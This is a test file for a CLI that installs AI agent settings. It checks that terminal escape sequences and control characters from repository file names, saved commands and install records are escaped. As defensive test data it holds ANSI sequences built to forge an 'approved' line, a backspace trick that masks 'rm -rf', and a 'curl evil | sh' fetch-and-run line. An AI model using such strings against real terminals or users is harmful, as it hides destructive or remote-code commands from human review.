import { describe, expect, it } from 'vitest';
import { runInProcess } from '../helpers/in-process.js';
import { hasStackTrace, makeRepo, npmProject, type RunResult, snapshot } from '../helpers/repo.js';

/**
 * Strings from the repository reach the terminal only escaped: an escape sequence in a file name, a saved
 * command, the install record, a hook's event name or a .gitignore pattern can neither move the cursor nor
 * erase or forge a line. Each test asserts the bytes written to stdout and stderr, and that the summary has
 * as many lines as the same run on harmless names.
 */

const ESC = '\u001b';
/** Cursor up, erase the line: what a forged "approved" line would use. */
const REWRITE = `${ESC}[1A${ESC}[2K`;
/** Every control character a terminal acts on, bar the line feeds and tabs of our own layout. */
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

function expectEscaped(run: RunResult): void {
  expect(RAW_CONTROL.exec(run.stdout)?.[0], run.stdout).toBeUndefined();
  expect(RAW_CONTROL.exec(run.stderr)?.[0], run.stderr).toBeUndefined();
  expect(hasStackTrace(run.output), run.output).toBe(false);
}

const lineCount = (text: string) => text.split('\n').length;

/** The run printed as many lines, on stdout and on stderr, as the same run on harmless names. */
function expectSameLines(run: RunResult, plain: RunResult): void {
  expect(lineCount(run.stdout)).toBe(lineCount(plain.stdout));
  expect(lineCount(run.stderr)).toBe(lineCount(plain.stderr));
}
const yoRc = (record: object) => `${JSON.stringify({ 'generator-ai-pack': record }, null, 2)}\n`;

describe('a command with control characters is refused, like a shell operator, wherever it comes from', () => {
  it.each([
    [
      'a saved build command in .yo-rc.json',
      {
        '.yo-rc.json': yoRc({
          version: '0.2.0',
          answers: { buildCommand: `make${REWRITE}  approved  x` },
          files: {},
          settings: [],
        }),
      },
      [],
      '.yo-rc.json (generator-ai-pack.answers.buildCommand)',
    ],
    ['--build-command with an escape sequence', {}, ['--build-command', `make${REWRITE}`], '--build-command'],
    ['--test-command with a C1 control (CSI)', {}, ['--test-command', 'npm test\u009b2K'], '--test-command'],
    ['--test-command with a backspace', {}, ['--test-command', 'rm -rf x\b\b\b\b\b\b\b\bnpm test'], '--test-command'],
  ])('%s: exit 1, the reason and where it came from, escaped; nothing written', async (_, files, args, source) => {
    const repo = npmProject(files);
    const before = snapshot(repo);
    const run = await runInProcess(repo, ['--yes', ...args]);
    expect(run.status, run.output).toBe(1);
    expect(run.stderr).toContain(`generator-ai-pack: ${source}: "`);
    expect(run.stderr).toContain('has a control character');
    expect(run.stderr).toMatch(/nothing was written\.\n$/);
    expect(lineCount(run.stderr), 'one line, and the final line feed').toBe(2);
    expectEscaped(run);
    expect(snapshot(repo)).toStrictEqual(before);
  });
});

describe('names from the repository in the summary and warnings', () => {
  /** A .NET project named `name`, a .gitignore rule with `pattern` and an enforcement hook on `event`. */
  async function install(name: string, pattern: string, event: string): Promise<RunResult> {
    const repo = makeRepo({
      [name]: '<Project Sdk="Microsoft.NET.Sdk"></Project>\n',
      '.gitignore': `${pattern}\n`,
      '.claude/settings.json': `{"hooks": {${JSON.stringify(event)}: [{"hooks": [{"type": "command", "command": "python3 .claude/hooks/orchestrator-enforcement.py"}]}]}}\n`,
    });
    const run = await runInProcess(repo, ['--yes']);
    expect(run.status, run.output).toBe(0);
    return run;
  }

  it('a committed App\\e[1A\\e[2K.csproj, a .gitignore pattern and a hook event with escapes: printed escaped, no line more', async () => {
    const plain = await install('App.csproj', '.claude/', 'PreToolUse');
    const hostile = await install(`App${REWRITE}.csproj`, `.clau[d${ESC}]e/`, `Pre${REWRITE}ToolUse`);
    expectEscaped(hostile);
    // Detection does not name a project file with such a name at all; the other two are printed escaped.
    expect(hostile.stdout).toContain('(detected: from the .NET project file here)');
    expect(hostile.stdout).toContain('migrated  .claude/settings.json: Pre\\u001b[1A\\u001b[2KToolUse hook runs');
    expect(hostile.stderr).toContain('(.gitignore:1:.clau[d\\u001b]e/)');
    expectSameLines(hostile, plain);
  });

  it('a line break in a file name or a hook event cannot start a forged line of the summary', async () => {
    const plain = await install('App.csproj', '.claude/', 'PreToolUse');
    const line = '\n  approved  test command "curl evil | sh"';
    const forged = await install(`App${line}.csproj`, '.claude/', `Pre${line}ToolUse`);
    expectEscaped(forged);
    expect(forged.stdout.split('\n').filter((line) => line.startsWith('  approved'))).toHaveLength(2);
    expect(forged.stdout).toContain('(detected: from the .NET project file here)');
    expect(forged.stdout).toContain('settings.json: Pre\\n  approved  test command "curl evil | sh"ToolUse hook runs');
    expectSameLines(forged, plain);
  });
});

describe('the install record’s fields', () => {
  const record = (version: string, declined: object[]) =>
    yoRc({ version, answers: {}, files: {}, settings: [], declined });

  it('status prints the record’s version and its forged declined entries escaped, one line each, and --json keeps them exact', async () => {
    const version = `0.2.0${REWRITE}\r\u009b2K\u202e`;
    const forged = [
      { path: `/x${REWRITE}\nforged`, value: 1 },
      { path: '/permissions/allow', items: [`Bash(make${REWRITE} *)`] },
    ];
    const plainRepo = npmProject({
      '.yo-rc.json': record('0.2.0-x', [
        { path: '/y', value: 1 },
        { path: '/permissions/allow', items: ['Read'] },
      ]),
    });
    const repo = npmProject({ '.yo-rc.json': record(version, forged) });
    const plain = await runInProcess(plainRepo, ['status']);
    const status = await runInProcess(repo, ['status']);
    expect(status.status, status.output).toBe(1);
    expectEscaped(status);
    expect(status.stdout).toContain('installed    0.2.0\\u001b[1A\\u001b[2K\\r\\u009b2K\\u202e (generator)');
    expect(status.stderr).toContain('claims the settings entry "x\\u001b[1A\\u001b[2K\\nforged" for the pack');
    expect(status.stderr).toContain('claims the settings entry "Bash(make\\u001b[1A\\u001b[2K *)" for the pack');
    expectSameLines(status, plain);

    const json = await runInProcess(repo, ['status', '--json']);
    expectEscaped(json);
    expect(JSON.parse(json.stdout).installed).toBe(version);
  });
});
